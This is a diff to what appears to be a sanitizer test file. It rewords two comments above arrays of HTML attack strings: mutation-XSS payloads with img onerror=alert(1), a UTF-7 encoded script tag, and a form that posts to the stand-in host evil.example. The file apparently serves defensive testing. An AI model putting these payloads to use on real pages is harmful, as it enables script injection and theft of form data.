@@ -115,7 +115,7 @@ const fetching = [
   '<p itemscope itemtype="https://evil.example">x</p>',
 ] as const;
 
-/** What a second reading may take for something else than the first. */
+/** Markup that changes its meaning when it is parsed twice. */
 const mutating = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
@@ -179,7 +179,7 @@ const mutating = [
   '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
 ] as const;
 
-/** What stands in a form, aims at forms: at where they are sent, and at what they hold. */
+/** Attacks on forms: on their target and their values. */
 const inForms = [
   '<form action="https://evil.example"><input name="b"></form>',
   '<form></form><form name="second"></form>',
